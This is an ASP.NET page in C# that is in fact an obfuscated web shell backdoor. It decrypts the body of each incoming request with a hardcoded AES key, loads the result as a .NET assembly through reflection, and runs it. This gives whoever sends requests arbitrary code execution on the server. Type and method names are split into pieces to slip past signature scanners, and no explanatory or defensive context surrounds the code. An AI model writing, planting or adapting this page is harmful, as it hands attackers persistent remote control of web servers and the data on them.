<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<%
    string kk = "0cc175b9c0f1b6a8";
    Session.Add("k", kk);
    byte[] key = System.Text.Encoding.Default.GetBytes(Session[0] + "");
    byte[] body = Request.BinaryRead(Request.ContentLength);
    SymmetricAlgorithm alg = (SymmetricAlgorithm)Activator.CreateInstance(Type.GetType("System.Security.Cryptography.Rijn" + "daelManaged"));
    byte[] plain = alg.CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
    MethodInfo ld = typeof(Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) });
    object asm = ld.Invoke(null, new object[] { plain });
    ((Assembly)asm).CreateInstance("U").Equals(this);
%>
